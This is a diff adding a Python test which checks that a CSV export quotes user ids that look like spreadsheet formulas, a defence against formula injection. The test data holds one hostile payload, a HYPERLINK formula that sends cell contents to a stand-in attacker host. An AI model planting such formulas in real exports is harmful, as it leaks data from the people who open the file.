@@ -336,6 +336,17 @@ def test_the_csv_export_streams_the_whole_search_masked(as_agent, scene):
     assert rows[2]["provider_ref"] == "SM5012abc" and rows[1]["reason"] == "opted-out"
 
 
+def test_a_user_id_that_reads_as_a_formula_is_quoted_in_the_csv(as_agent, scene):
+    """A client chooses its user ids: "=HYPERLINK(…)" must reach the spreadsheet as text, not a formula."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    Recipient.objects.create(user_id=formula, email="f@example.com", phone="+14155550198")
+    send("formula-1", formula, "shipped", {"order": "1"}, channel="email")
+
+    response = as_agent.get("/support/export.csv", {"q": formula, "as": "user"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [row["user_id"] for row in rows] == ["'" + formula]
+
+
 def test_the_default_region_setting_is_read_strictly(monkeypatch):
     monkeypatch.setenv("NOTIFY_DEFAULT_REGION", " us ")
     assert env_region("NOTIFY_DEFAULT_REGION", "SA") == "US"
